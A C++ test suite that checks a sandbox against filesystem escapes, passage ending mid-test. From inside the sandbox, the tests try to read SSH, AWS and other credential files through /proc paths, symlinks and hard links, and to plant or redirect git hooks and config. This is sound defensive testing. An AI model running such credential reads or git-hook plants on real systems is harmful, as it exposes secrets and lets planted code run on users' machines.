// Filesystem escapes (THREATS.md, "Filesystem"): each test runs a real
// sandbox, tries the attack from inside with the probe or a shell, and then
// checks both that the attempt failed for the expected reason and that the
// host is as it was. Where a boundary could be "passed" by a sandbox that
// forbids everything, the test also does the allowed neighbour and checks it
// worked.
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#include <gtest/gtest.h>

#include <algorithm>
#include <chrono>
#include <fstream>
#include <map>
#include <set>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include "../integration/harness.h"
#include "attack.h"

namespace airlock::test {
namespace {

// The fixture's secrets: none of these may ever appear in anything the
// sandboxed command prints.
const std::vector<std::string> kSecrets = {"PRIVATE-KEY-MATERIAL", "AKIASECRET", "NETRCSECRET", "DOCKERSECRET"};

const std::set<std::string> kReadOnly = {"EROFS", "EACCES"};

// A hidden file reads as the empty stand-in where only the mount layer holds
// it, and is refused by Landlock where Landlock covers it as well.
::testing::AssertionResult hidden_file(const std::map<std::string, std::string>& r, const std::string& label) {
  auto it = r.find(label);
  if (it == r.end()) return ::testing::AssertionFailure() << label << ": no result (did the script run?)";
  if (it->second == "OK " || it->second == "ERR EACCES") return ::testing::AssertionSuccess();
  return ::testing::AssertionFailure() << label << ": got '" << it->second << "'";
}

void expect_no_secret(const RunResult& r) {
  for (const auto& s : kSecrets) {
    EXPECT_TRUE(lacks(r.out, s)) << "secret leaked to stdout";
    EXPECT_TRUE(lacks(r.err, s)) << "secret leaked to stderr";
  }
}

// Each secret the fixture planted is still on the host, unchanged.
void expect_host_secrets_intact(const SandboxFixture& fx) {
  EXPECT_EQ(slurp(fx.home + "/.ssh/id_rsa"), "PRIVATE-KEY-MATERIAL\n");
  EXPECT_EQ(slurp(fx.home + "/.aws/credentials"), "aws_secret_access_key=AKIASECRET\n");
  EXPECT_EQ(slurp(fx.home + "/.netrc"), "machine example.com password NETRCSECRET\n");
  EXPECT_EQ(slurp(fx.home + "/.docker/config.json"), "{\"auths\":{\"x\":{\"auth\":\"DOCKERSECRET\"}}}\n");
}

// --- Writes outside the workspace ------------------------------------------

TEST(FsEscape, WritesOutsideTheWorkspaceAreRefusedAndTheHostIsUntouched) {
  SandboxFixture fx;
  fx.tree.write("other-project/src.c", "int main() {}\n");
  std::string other = fx.tree.path("other-project");
  std::string etc_new = "/etc/airlock-escape-" + std::to_string(::getpid());
  std::string vartmp_new = "/var/tmp/airlock-escape-" + std::to_string(::getpid());
  auto r = fx.sh(probe_script({
      {"home-bashrc", "write " + sq(fx.home + "/.bashrc")},
      {"home-bashrc-trunc", "truncate " + sq(fx.home + "/.bashrc")},
      {"home-new", "create " + sq(fx.home + "/.bash_aliases")},
      {"home-mkdir", "mkdir " + sq(fx.home + "/.config")},
      {"home-rename", "rename " + sq(fx.home + "/notes.txt") + " " + sq(fx.home + "/notes.old")},
      {"etc-passwd", "write /etc/passwd"},
      {"etc-new", "create " + sq(etc_new)},
      {"sibling-write", "write " + sq(other + "/src.c")},
      {"sibling-new", "create " + sq(other + "/evil.c")},
      {"vartmp-new", "create " + sq(vartmp_new)},
      {"ws-new", "create " + sq(fx.ws + "/built.o")},  // allowed
  }));
  ASSERT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  EXPECT_TRUE(refused(res, "home-bashrc", kReadOnly));
  EXPECT_TRUE(refused(res, "home-bashrc-trunc", kReadOnly));
  EXPECT_TRUE(refused(res, "home-new", kReadOnly));
  EXPECT_TRUE(refused(res, "home-mkdir", kReadOnly));
  EXPECT_TRUE(refused(res, "home-rename", kReadOnly));
  EXPECT_TRUE(refused(res, "etc-passwd", kReadOnly));
  EXPECT_TRUE(refused(res, "etc-new", kReadOnly));
  EXPECT_TRUE(refused(res, "sibling-write", kReadOnly));
  EXPECT_TRUE(refused(res, "sibling-new", kReadOnly));
  EXPECT_TRUE(refused(res, "vartmp-new", kReadOnly));
  EXPECT_EQ(res["ws-new"], "OK");

  EXPECT_EQ(slurp(fx.home + "/.bashrc"), "# user's bashrc\n");
  EXPECT_FALSE(lexists(fx.home + "/.bash_aliases"));
  EXPECT_FALSE(lexists(fx.home + "/.config"));
  EXPECT_EQ(slurp(fx.home + "/notes.txt"), "ordinary file\n");
  EXPECT_FALSE(lexists(etc_new));
  EXPECT_EQ(slurp(other + "/src.c"), "int main() {}\n");
  EXPECT_FALSE(lexists(other + "/evil.c"));
  EXPECT_FALSE(lexists(vartmp_new));
  EXPECT_TRUE(lexists(fx.ws + "/built.o"));
}

TEST(FsEscape, PrivateTmpIsWritableButNeverTheHostsTmp) {
  SandboxFixture fx;
  // A file the host has in /tmp: the sandbox must not see it either.
  char host_tmpl[] = "/tmp/airlock-fsescape-host-XXXXXX";
  int hfd = ::mkstemp(host_tmpl);
  ASSERT_GE(hfd, 0);
  ASSERT_EQ(::write(hfd, "HOSTTMP\n", 8), 8);
  ::close(hfd);
  std::string host_file = host_tmpl;
  std::string inside = "/tmp/airlock-fsescape-inside-" + std::to_string(::getpid());
  auto r = fx.sh("echo from-the-sandbox > " + inside + " && cat " + inside + "\n" +
                 probe_script({{"host-file", "read " + sq(host_file)}, {"host-file-write", "write " + sq(host_file)}}));
  ::unlink(host_file.c_str());
  ASSERT_EQ(r.code, 0) << r.err;
  EXPECT_TRUE(contains(r.out, "from-the-sandbox"));  // the private /tmp works
  auto res = parse_results(r.out);
  EXPECT_EQ(res["host-file"], "ERR ENOENT");
  EXPECT_EQ(res["host-file-write"], "ERR ENOENT");
  EXPECT_TRUE(lacks(r.out, "HOSTTMP"));
  EXPECT_FALSE(lexists(inside)) << "a file written to the sandbox's /tmp appeared in the host's /tmp";
}

// --- Reading secrets ---------------------------------------------------------

TEST(FsEscape, DefaultSecretsAreUnreadableByPlainPath) {
  SandboxFixture fx;
  auto r = fx.sh(probe_script(
      {
          {"ssh-key", "read " + sq(fx.home + "/.ssh/id_rsa")},
          {"aws", "read " + sq(fx.home + "/.aws/credentials")},
          {"netrc", "read " + sq(fx.home + "/.netrc")},
          {"docker", "read " + sq(fx.home + "/.docker/config.json")},
          {"notes", "read " + sq(fx.home + "/notes.txt")},  // allowed: an ordinary file in $HOME
      },
      // Whole-folder tools too: a listing, a recursive grep, a copy.
      "ls -la ~/.ssh ~/.aws; cat ~/.netrc ~/.docker/config.json; grep -r . ~ 2>/dev/null; "
      "cp -r ~/.ssh ./ssh-copy 2>/dev/null; cat ./ssh-copy/* 2>/dev/null"));
  ASSERT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  EXPECT_EQ(res["ssh-key"], "ERR ENOENT");  // the folder is an empty stand-in
  EXPECT_EQ(res["aws"], "ERR ENOENT");
  EXPECT_TRUE(hidden_file(res, "netrc"));
  EXPECT_TRUE(hidden_file(res, "docker"));
  EXPECT_EQ(res["notes"], "OK ordinary file");
  EXPECT_TRUE(lacks(r.out, "id_rsa"));  // not even the name
  expect_no_secret(r);
  expect_host_secrets_intact(fx);
}

TEST(FsEscape, SecretsAreUnreadableThroughDotDotAndProcPaths) {
  SandboxFixture fx;
  const std::string key = "/.ssh/id_rsa";
  auto r = fx.sh(probe_script(
      {
          {"dotdot-rel", "read ../home/.ssh/id_rsa"},
          {"dotdot-abs", "read " + sq(fx.ws + "/../home/.ssh/../.ssh/id_rsa")},
          {"dotdot-aws", "read " + sq(fx.ws + "/../../../../" + fx.home.substr(1) + "/.aws/./credentials")},
          {"slashes", "read " + sq("//" + fx.home + "//.ssh///id_rsa")},
          {"self-root", "read " + sq("/proc/self/root" + fx.home + key)},
          {"self-cwd", "read /proc/self/cwd/../home/.ssh/id_rsa"},
          {"shell-root", "read \"/proc/$$/root\"" + sq(fx.home + key)},
          {"sibling-root", "read \"/proc/$bg/root\"" + sq(fx.home + "/.netrc")},
          {"sibling-cwd", "read \"/proc/$bg/cwd/../home/.aws/credentials\""},
          {"init-root", "read " + sq("/proc/1/root" + fx.home + key)},
          {"init-cwd", "read /proc/1/cwd/.ssh/id_rsa"},
          // Each path form, aimed at an ordinary file: it does work, so the
          // refusals above are the stand-ins', not a mistyped path.
          {"ok-dotdot-rel", "read ../home/notes.txt"},
          {"ok-dotdot-abs", "read " + sq(fx.ws + "/../home/.ssh/../notes.txt")},
          {"ok-dotdot-root", "read " + sq(fx.ws + "/../../../../" + fx.home.substr(1) + "/./notes.txt")},
          {"ok-slashes", "read " + sq("//" + fx.home + "//notes.txt")},
          {"ok-self-root", "read " + sq("/proc/self/root" + fx.home + "/notes.txt")},
          {"ok-self-cwd", "read /proc/self/cwd/../home/notes.txt"},
          {"ok-shell-root", "read \"/proc/$$/root\"" + sq(fx.home + "/notes.txt")},
          {"ok-sibling-cwd", "read \"/proc/$bg/cwd/../home/notes.txt\""},
      },
      "sleep 5 & bg=$!"));
  ASSERT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  for (const char* l : {"dotdot-rel", "dotdot-abs", "dotdot-aws", "slashes", "self-root", "self-cwd", "shell-root",
                        "sibling-cwd"})
    EXPECT_EQ(res[l], "ERR ENOENT") << l;
  EXPECT_TRUE(hidden_file(res, "sibling-root"));
  // init is not dumpable: its /proc entries are closed to the command.
  EXPECT_TRUE(refused(res, "init-root", {"EACCES"}));
  EXPECT_TRUE(refused(res, "init-cwd", {"EACCES"}));
  for (const char* l : {"ok-dotdot-rel", "ok-dotdot-abs", "ok-dotdot-root", "ok-slashes", "ok-self-root",
                        "ok-self-cwd", "ok-shell-root", "ok-sibling-cwd"})
    EXPECT_EQ(res[l], "OK ordinary file") << l;
  expect_no_secret(r);
}

TEST(FsEscape, SymlinkPlantedInTheWorkspaceDoesNotReachTheSecret) {
  SandboxFixture fx;
  auto r = fx.sh(probe_script(
      {
          {"file-link", "read key"},
          {"dir-link", "read sshdir/id_rsa"},
          {"aws-link", "read aws/credentials"},
          {"proc-link", "read viaproc"},
          {"home-link", "read home/notes.txt"},  // allowed: a link to the (readable) home
      },
      "ln -s " + sq(fx.home + "/.ssh/id_rsa") + " key; ln -s " + sq(fx.home + "/.ssh") + " sshdir; ln -s " +
          sq(fx.home + "/.aws") + " aws; ln -s " + sq("/proc/self/root" + fx.home + "/.ssh/id_rsa") +
          " viaproc; ln -s " + sq(fx.home) + " home; cat key sshdir/* aws/* 2>/dev/null"));
  ASSERT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  EXPECT_EQ(res["file-link"], "ERR ENOENT");
  EXPECT_EQ(res["dir-link"], "ERR ENOENT");
  EXPECT_EQ(res["aws-link"], "ERR ENOENT");
  EXPECT_EQ(res["proc-link"], "ERR ENOENT");
  EXPECT_EQ(res["home-link"], "OK ordinary file");
  expect_no_secret(r);
  // The links were made (the workspace is writable) and point where planted:
  // the test really tried them.
  EXPECT_TRUE(is_symlink(fx.ws + "/key"));
  expect_host_secrets_intact(fx);
}

TEST(FsEscape, SymlinkThatExistedBeforeTheRunDoesNotReachTheSecret) {
  SandboxFixture fx;
  ASSERT_EQ(::symlink((fx.home + "/.ssh/id_rsa").c_str(), (fx.ws + "/deploy_key").c_str()), 0);
  ASSERT_EQ(::symlink((fx.home + "/.aws").c_str(), (fx.ws + "/aws").c_str()), 0);
  ASSERT_EQ(::symlink("../home/.netrc", (fx.ws + "/netrc").c_str()), 0);
  ASSERT_EQ(::symlink("../home/notes.txt", (fx.ws + "/notes").c_str()), 0);
  ASSERT_EQ(slurp(fx.ws + "/deploy_key"), "PRIVATE-KEY-MATERIAL\n");  // on the host, the link works
  auto r = fx.sh(probe_script({
      {"key", "read deploy_key"},
      {"aws", "read aws/credentials"},
      {"netrc", "read netrc"},
      {"notes", "read notes"},  // allowed: a link to an ordinary file
  }));
  ASSERT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  EXPECT_EQ(res["key"], "ERR ENOENT");
  EXPECT_EQ(res["aws"], "ERR ENOENT");
  EXPECT_TRUE(hidden_file(res, "netrc"));
  EXPECT_EQ(res["notes"], "OK ordinary file");
  expect_no_secret(r);
}

TEST(FsEscape, HardLinkToASecretCannotBeMade) {
  SandboxFixture fx;
  auto r = fx.sh(probe_script({
      {"secret", "link " + sq(fx.home + "/.ssh/id_rsa") + " stolen"},
      {"secret-netrc", "link " + sq(fx.home + "/.netrc") + " stolen-netrc"},
      {"home-file", "link " + sq(fx.home + "/notes.txt") + " notes"},
      {"ws-file", "link README.md readme-link"},  // allowed: inside the workspace
  }, "ln " + sq(fx.home + "/.ssh/id_rsa") + " ln-stolen; cat ln-stolen 2>/dev/null"));
  ASSERT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  EXPECT_EQ(res["secret"], "ERR ENOENT");
  // The stand-in file and the host's tree are other mounts: no link across.
  EXPECT_EQ(res["secret-netrc"], "ERR EXDEV");
  EXPECT_EQ(res["home-file"], "ERR EXDEV");
  EXPECT_EQ(res["ws-file"], "OK");
  expect_no_secret(r);
  EXPECT_FALSE(lexists(fx.ws + "/stolen"));
  EXPECT_FALSE(lexists(fx.ws + "/stolen-netrc"));
  EXPECT_FALSE(lexists(fx.ws + "/ln-stolen"));
  EXPECT_FALSE(lexists(fx.ws + "/notes"));
  EXPECT_TRUE(lexists(fx.ws + "/readme-link"));
  struct stat st {};
  ASSERT_EQ(::stat((fx.home + "/.ssh/id_rsa").c_str(), &st), 0);
  EXPECT_EQ(st.st_nlink, 1u);
}

TEST(FsEscape, DenyReadOfAWorkspaceFileHoldsThroughLinksAndRenames) {
  SandboxFixture fx;
  fx.tree.write("ws/config/prod.env", "DB_PASSWORD=WSSECRET\n");
  ASSERT_EQ(::symlink("config/prod.env", (fx.ws + "/prod-link").c_str()), 0);  // made before the run
  auto r = fx.sh(probe_script(
                     {
                         {"plain", "read config/prod.env"},
                         {"old-link", "read prod-link"},
                         {"new-link", "read new-link"},
                         {"dotdot", "read config/../config/prod.env"},
                         {"self-root", "read " + sq("/proc/self/root" + fx.ws + "/config/prod.env")},
                         {"hardlink", "link config/prod.env hard"},
                         {"rename", "rename config/prod.env exposed.env"},
                         {"unlink", "unlink config/prod.env"},
                         {"readme", "read README.md"},  // allowed: the rest of the workspace
                     },
                     "ln -s " + sq(fx.ws + "/config/prod.env") + " new-link; cp config/prod.env copy.env") +
                     // Its folder cannot be renamed either: it is pinned (a
                     // mount point), so the name cannot be freed for a later file.
                     "mv config moved-config 2>/dev/null && echo FOLDER-MOVED; cat copy.env 2>&1; true\n",
                 {"--deny-read", "config/prod.env"});
  ASSERT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  for (const char* l : {"plain", "old-link", "new-link", "dotdot", "self-root"})
    EXPECT_TRUE(hidden_file(res, l));
  EXPECT_TRUE(refused(res, "hardlink", {"EXDEV"}));
  EXPECT_TRUE(refused(res, "rename", {"EBUSY", "EXDEV"}));
  EXPECT_TRUE(refused(res, "unlink", {"EBUSY"}));
  EXPECT_EQ(res["readme"], "OK project");
  EXPECT_TRUE(lacks(r.out, "FOLDER-MOVED"));
  EXPECT_TRUE(lacks(r.out, "WSSECRET"));
  EXPECT_TRUE(lacks(r.err, "WSSECRET"));
  EXPECT_TRUE(lacks(slurp(fx.ws + "/copy.env"), "WSSECRET"));
  // The file itself is intact on the host (wherever its folder now is).
  std::string now = lexists(fx.ws + "/config/prod.env") ? fx.ws + "/config/prod.env" : fx.ws + "/moved-config/prod.env";
  EXPECT_EQ(slurp(now), "DB_PASSWORD=WSSECRET\n");
}

// A denied path that does not exist when airlock starts, created on the host
// while the command runs ("a path that did not exist when the policy was
// built"). The command signals when it is waiting; the host then writes.
RunResult run_with_late_file(const SandboxFixture& fx, const std::string& late, const std::string& content,
                             const std::string& read_path, const std::vector<std::string>& extra) {
  std::string ready = fx.ws + "/.ready-" + std::to_string(::getpid());
  std::string script = "touch " + sq(ready) + "\nfor i in $(seq 100); do [ -e " + sq(read_path) +
                       " ] && break; sleep 0.05; done\n" + probe_script({{"late", "read " + sq(read_path)}});
  RunResult r;
  std::thread t([&] { r = fx.sh(script, extra); });
  for (int i = 0; i < 400 && !lexists(ready); ++i) std::this_thread::sleep_for(std::chrono::milliseconds(25));
  bool started = lexists(ready);
  fx.tree.write(late.substr(fx.tree.root().size() + 1), content);
  t.join();
  ::unlink(ready.c_str());
  EXPECT_TRUE(started) << "the sandboxed command never started: " << r.err;
  return r;
}

TEST(FsEscape, DenyReadPathCreatedOnTheHostDuringTheRunStaysHiddenOutsideTheWorkspace) {
  SandboxFixture fx;
  std::string vault = fx.home + "/vault";  // does not exist yet
  auto r = run_with_late_file(fx, vault + "/token", "VAULTLATE\n", vault + "/token", {"--deny-read", vault});
  ASSERT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  EXPECT_TRUE(refused(res, "late", {"EACCES", "ENOENT"}));
  EXPECT_TRUE(lacks(r.out, "VAULTLATE"));
}

TEST(FsEscape, DenyReadPathCreatedOnTheHostDuringTheRunStaysHiddenInsideTheWorkspace) {
  SandboxFixture fx;
  std::string late = fx.ws + "/late.env";  // does not exist yet
  auto r = run_with_late_file(fx, late, "LATESECRET\n", late, {"--deny-read", "late.env"});
  ASSERT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  EXPECT_TRUE(lacks(res["late"], "LATESECRET"))
      << "a --deny-read path in the workspace that appears during the run is readable";
  EXPECT_TRUE(lacks(r.out, "LATESECRET"));
}

TEST(FsEscape, DenyReadGlobFromASettingsFileHidesEveryMatch) {
  SandboxFixture fx;
  fx.tree.write("home/keys/prod.pem", "PEMSECRET-PROD\n");
  fx.tree.write("home/keys/dev.pem", "PEMSECRET-DEV\n");
  fx.tree.write("home/keys/README", "public notes\n");
  fx.tree.write("ws/certs/site.key", "KEYSECRET\n");
  fx.tree.write("ws/certs/site.crt", "public cert\n");
  std::string settings = write_settings(fx, R"({"filesystem": {"denyRead": ["~/keys/*.pem", "certs/*.key"]}})");
  auto r = fx.sh(probe_script(
                     {
                         {"prod", "read " + sq(fx.home + "/keys/prod.pem")},
                         {"dev", "read " + sq(fx.home + "/keys/dev.pem")},
                         {"readme", "read " + sq(fx.home + "/keys/README")},  // allowed: no match
                         {"key", "read certs/site.key"},
                         {"crt", "read certs/site.crt"},  // allowed: no match
                     },
                     "cat ~/keys/* certs/* 2>&1"),
                 {"--settings", settings});
  ASSERT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  EXPECT_TRUE(hidden_file(res, "prod"));
  EXPECT_TRUE(hidden_file(res, "dev"));
  EXPECT_EQ(res["readme"], "OK public notes");
  EXPECT_TRUE(hidden_file(res, "key"));
  EXPECT_EQ(res["crt"], "OK public cert");
  for (const char* s : {"PEMSECRET", "KEYSECRET"}) {
    EXPECT_TRUE(lacks(r.out, s));
    EXPECT_TRUE(lacks(r.err, s));
  }
}

// --- Protected files in the workspace ---------------------------------------

void make_repo(const SandboxFixture& fx, const std::string& rel) {
  fx.tree.write(rel + "/.git/hooks/pre-commit", "#!/bin/sh\necho original hook\n");
  fx.tree.write(rel + "/.git/config", "[core]\n\tbare = false\n");
  fx.tree.write(rel + "/.git/HEAD", "ref: refs/heads/main\n");
}

void expect_repo_intact(const SandboxFixture& fx, const std::string& rel) {
  std::string git = fx.tree.path(rel + "/.git");
  EXPECT_EQ(slurp(git + "/hooks/pre-commit"), "#!/bin/sh\necho original hook\n") << rel;
  EXPECT_EQ(slurp(git + "/config"), "[core]\n\tbare = false\n") << rel;
  EXPECT_FALSE(lexists(git + "/hooks/post-checkout")) << rel;
}

TEST(FsEscape, GitHooksAndConfigAreReadOnly) {
  SandboxFixture fx;
  make_repo(fx, "ws");
  auto r = fx.sh(probe_script({
      {"hook-write", "write .git/hooks/pre-commit"},
      {"hook-trunc", "truncate .git/hooks/pre-commit"},
      {"hook-new", "create .git/hooks/post-checkout"},
      {"config-write", "write .git/config"},
      {"config-trunc", "truncate .git/config"},
      {"head", "write .git/HEAD"},  // allowed: git itself must work
  }, "git config core.hooksPath /tmp/evil 2>/dev/null; git config alias.st '!evil' 2>/dev/null"));
  ASSERT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  for (const char* l : {"hook-write", "hook-trunc", "hook-new", "config-write", "config-trunc"})
    EXPECT_TRUE(refused(res, l, kReadOnly));
  EXPECT_EQ(res["head"], "OK");
  expect_repo_intact(fx, "ws");
  EXPECT_TRUE(contains(slurp(fx.ws + "/.git/HEAD"), "pwned"));
}

TEST(FsEscape, AllowGitConfigLiftsOnlyTheConfig) {
  SandboxFixture fx;
  make_repo(fx, "ws");
  std::string settings = write_settings(fx, R"({"filesystem": {"allowGitConfig": true}})");
  auto r = fx.sh(probe_script({
                     {"config-write", "write .git/config"},
                     {"hook-write", "write .git/hooks/pre-commit"},
                     {"hook-new", "create .git/hooks/post-checkout"},
                 }),
                 {"--settings", settings});
  ASSERT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  EXPECT_EQ(res["config-write"], "OK");
  EXPECT_TRUE(refused(res, "hook-write", kReadOnly));
  EXPECT_TRUE(refused(res, "hook-new", kReadOnly));
  EXPECT_EQ(slurp(fx.ws + "/.git/config"), "[core]\n\tbare = false\npwned\n");
  EXPECT_EQ(slurp(fx.ws + "/.git/hooks/pre-commit"), "#!/bin/sh\necho original hook\n");
  EXPECT_FALSE(lexists(fx.ws + "/.git/hooks/post-checkout"));
}

TEST(FsEscape, MissingProtectedFilesCannotBeCreatedAndLeaveNoPlaceholders) {
  SandboxFixture fx;
  auto before = fx.listing(fx.ws);
  auto r = fx.sh(probe_script({
      {"vscode-dir", "mkdir .vscode"},
      {"vscode-tasks", "create .vscode/tasks.json"},
      {"idea", "create .idea/workspace.xml"},
      {"claude", "create .claude/settings.json"},
      {"airlock", "create .airlock/settings.json"},
      {"mcp", "write .mcp.json"},
      {"bashrc", "write .bashrc"},
      {"profile", "truncate .profile"},
      {"envrc", "write .envrc"},
      {"gitconfig", "write .gitconfig"},
      {"gitmodules", "write .gitmodules"},
      {"mcp-unlink", "unlink .mcp.json"},
      {"mcp-replace", "rename staged.json .mcp.json"},
      {"vscode-rmdir", "rmdir .vscode"},
      {"vscode-replace", "rename staged-dir .vscode"},
      {"ordinary", "create ordinary.txt"},  // allowed
  }, "echo '{\"mcpServers\":{}}' > staged.json; mkdir staged-dir"));
  ASSERT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  EXPECT_TRUE(refused(res, "vscode-dir", {"EEXIST"}));  // it is there: a read-only stand-in
  for (const char* l : {"vscode-tasks", "idea", "claude", "airlock", "mcp", "bashrc", "profile", "envrc",
                        "gitconfig", "gitmodules"})
    EXPECT_TRUE(refused(res, l, kReadOnly));
  EXPECT_TRUE(refused(res, "mcp-unlink", {"EBUSY"}));
  EXPECT_TRUE(refused(res, "mcp-replace", {"EBUSY"}));
  EXPECT_TRUE(refused(res, "vscode-rmdir", {"EBUSY"}));
  EXPECT_TRUE(refused(res, "vscode-replace", {"EBUSY"}));
  EXPECT_EQ(res["ordinary"], "OK");
  // After the run: only what the command was allowed to make, no placeholder.
  auto after = fx.listing(fx.ws);
  auto expected = before;
  for (const char* n : {"ordinary.txt", "staged-dir", "staged.json"}) expected.push_back(n);
  std::sort(expected.begin(), expected.end());
  EXPECT_EQ(after, expected);
}

TEST(FsEscape, NestedRepositoryHooksAreReadOnly) {
  SandboxFixture fx;
  make_repo(fx, "ws");
  make_repo(fx, "ws/vendor/lib");
  auto before = fx.listing(fx.ws);
  auto r = fx.sh(probe_script({
      {"hook-write", "write vendor/lib/.git/hooks/pre-commit"},
      {"hook-new", "create vendor/lib/.git/hooks/post-checkout"},
      {"config", "write vendor/lib/.git/config"},
      {"src", "create vendor/lib/src.c"},  // allowed: the rest of the nested repository
  }));
  ASSERT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  EXPECT_TRUE(refused(res, "hook-write", kReadOnly));
  EXPECT_TRUE(refused(res, "hook-new", kReadOnly));
  EXPECT_TRUE(refused(res, "config", kReadOnly));
  EXPECT_EQ(res["src"], "OK");
  expect_repo_intact(fx, "ws/vendor/lib");
  expect_repo_intact(fx, "ws");
  auto after = fx.listing(fx.ws);
  before.push_back("vendor/lib/src.c");
  std::sort(before.begin(), before.end());
  EXPECT_EQ(after, before);
}

TEST(FsEscape, ProtectedFilesCannotBeRenamedDeletedOrReplaced) {
  SandboxFixture fx;
  make_repo(fx, "ws");
  auto r = fx.sh(probe_script(
      {
          {"hooks-rename", "rename .git/hooks hooks-away"},
          {"hooks-rmdir", "rmdir .git/hooks"},
          {"hook-unlink", "unlink .git/hooks/pre-commit"},
          {"hook-replace", "rename evil-hook .git/hooks/pre-commit"},
          {"config-unlink", "unlink .git/config"},
          {"config-rename", "rename .git/config config-away"},
          {"config-replace", "rename evil-config .git/config"},
          {"hooks-replace", "rename evil-hooks .git/hooks"},
      },
      "printf '#!/bin/sh\\necho pwned\\n' > evil-hook; printf '[core]\\n\\thooksPath=/tmp\\n' > evil-config; "
      "mkdir evil-hooks; cp evil-hook evil-hooks/pre-commit") +
      // The same with the shell's tools, after the probes.
      "rm -rf .git/hooks 2>/dev/null; mv -f evil-hook .git/hooks/pre-commit 2>/dev/null; "
      "mv -f evil-config .git/config 2>/dev/null; true\n");
  ASSERT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  // Renames across the pinned .git mount give EXDEV, on a mount point EBUSY.
  EXPECT_TRUE(refused(res, "hooks-rename", {"EBUSY", "EXDEV"}));
  EXPECT_TRUE(refused(res, "hooks-rmdir", {"EBUSY"}));
  EXPECT_TRUE(refused(res, "hook-unlink", kReadOnly));
  EXPECT_TRUE(refused(res, "hook-replace", {"EXDEV", "EROFS"}));
  EXPECT_TRUE(refused(res, "config-unlink", {"EBUSY"}));
  EXPECT_TRUE(refused(res, "config-rename", {"EBUSY", "EXDEV"}));
  EXPECT_TRUE(refused(res, "config-replace", {"EBUSY", "EXDEV"}));
  EXPECT_TRUE(refused(res, "hooks-replace", {"EBUSY", "EXDEV"}));
  expect_repo_intact(fx, "ws");
  EXPECT_FALSE(lexists(fx.ws + "/hooks-away"));
  EXPECT_FALSE(lexists(fx.ws + "/config-away"));
}

// The stand-ins sit on .git/hooks and .git/config; .git itself is an ordinary
// folder of the writable workspace. Renaming it carries the stand-ins away
// with it and leaves the protected names free for new files.
TEST(FsEscape, GitFolderCannotBeSwappedOutFromUnderItsProtectedFiles) {
  SandboxFixture fx;
  make_repo(fx, "ws");
  make_repo(fx, "ws/sub");
  auto r = fx.sh(probe_script(
      {
          {"git-rename", "rename .git .git-old"},
          {"sub-rename", "rename sub sub-old"},
      },
      "") +
      "mkdir -p .git/hooks sub/.git/hooks\n"
      "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/post-checkout\n"
      "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit\n"
      "printf '[core]\\n\\tfsmonitor = evil\\n' > .git/config\n"
      "printf '#!/bin/sh\\necho pwned\\n' > sub/.git/hooks/pre-commit\n"
      "true\n");
  ASSERT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  EXPECT_TRUE(res["git-rename"].rfind("ERR", 0) == 0)
      << "renaming .git away succeeded (" << res["git-rename"] << "): the protected hooks/config names are free";
  EXPECT_TRUE(res["sub-rename"].rfind("ERR", 0) == 0)
      << "renaming a nested repository's folder succeeded (" << res["sub-rename"] << ")";
  expect_repo_intact(fx, "ws");
  expect_repo_intact(fx, "ws/sub");
}

// A submodule keeps its repository in .git/modules/NAME: its hooks and
// config run just like the top-level ones.
TEST(FsEscape, SubmoduleHooksAndConfigAreReadOnly) {
  SandboxFixture fx;
  make_repo(fx, "ws");
  fx.tree.write("ws/.git/modules/lib/hooks/pre-commit", "#!/bin/sh\necho original hook\n");
  fx.tree.write("ws/.git/modules/lib/config", "[core]\n\tworktree = ../../../lib\n");
  fx.tree.write("ws/lib/.git", "gitdir: ../.git/modules/lib\n");
  auto r = fx.sh(probe_script({
      {"hook-new", "create .git/modules/lib/hooks/post-checkout"},
      {"hook-write", "write .git/modules/lib/hooks/pre-commit"},
      {"config", "write .git/modules/lib/config"},
      {"gitfile", "write lib/.git"},
  }));
  ASSERT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  EXPECT_TRUE(refused(res, "hook-new", kReadOnly));
  EXPECT_TRUE(refused(res, "hook-write", kReadOnly));
  EXPECT_TRUE(refused(res, "config", kReadOnly));
  EXPECT_FALSE(lexists(fx.ws + "/.git/modules/lib/hooks/post-checkout"));
  EXPECT_EQ(slurp(fx.ws + "/.git/modules/lib/hooks/pre-commit"), "#!/bin/sh\necho original hook\n");
  EXPECT_EQ(slurp(fx.ws + "/.git/modules/lib/config"), "[core]\n\tworktree = ../../../lib\n");
}

// A git worktree (or submodule checkout) has a .git FILE naming its
// repository. Whoever rewrites it chooses the hooks and config git runs
// there next: "gitdir: evil" with evil/hooks/post-checkout.
TEST(FsEscape, GitFileOfAWorktreeIsReadOnly) {
  SandboxFixture fx;
  make_repo(fx, "main-repo");
  fx.tree.write("main-repo/.git/worktrees/ws/HEAD", "ref: refs/heads/feature\n");
  std::string gitfile = "gitdir: " + fx.tree.path("main-repo/.git/worktrees/ws") + "\n";
  fx.tree.write("ws/.git", gitfile);
  auto r = fx.sh(probe_script(
      {
          {"gitfile-write", "write .git"},
          {"gitfile-unlink", "unlink .git"},
          {"gitfile-replace", "rename evil-gitfile .git"},
          {"main-hooks", "create " + sq(fx.tree.path("main-repo/.git/hooks/post-checkout"))},
      },
      "mkdir -p evil/hooks; printf 'gitdir: evil\\n' > evil-gitfile") +
      "printf 'gitdir: evil\\n' > .git; true\n");
  ASSERT_EQ(r.code, 0) << r.err;
  auto res = parse_results(r.out);
  EXPECT_TRUE(refused(res, "gitfile-write", kReadOnly));
